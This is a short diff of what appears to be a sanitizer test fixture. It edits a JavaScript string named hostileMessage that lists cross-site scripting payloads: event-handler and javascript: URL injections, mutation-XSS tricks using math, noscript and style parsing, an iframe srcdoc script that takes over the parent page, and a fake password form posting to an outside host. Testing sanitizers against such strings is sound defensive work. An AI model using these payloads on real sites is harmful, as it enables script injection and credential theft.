@@ -11,7 +11,7 @@ const hostileMessage = `
 <svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate><a href="javascript:alert(1)"><text>Press</text></a></svg>
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></table></mtext></math>
 <svg><textarea><img src=x onerror=alert(1)></textarea></svg>
-<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
+<noscript><p title="</noscript><img src=x onerror='alert(1)' title='"></noscript>'>
 <style>body { display: none }</style>
 <iframe src="https://elsewhere.example/" srcdoc="<script>parent.document.title = 'taken over'</script>"></iframe>
 <form action="https://elsewhere.example/"><label>Password <input name="password"></label><button>Sign in</button></form>
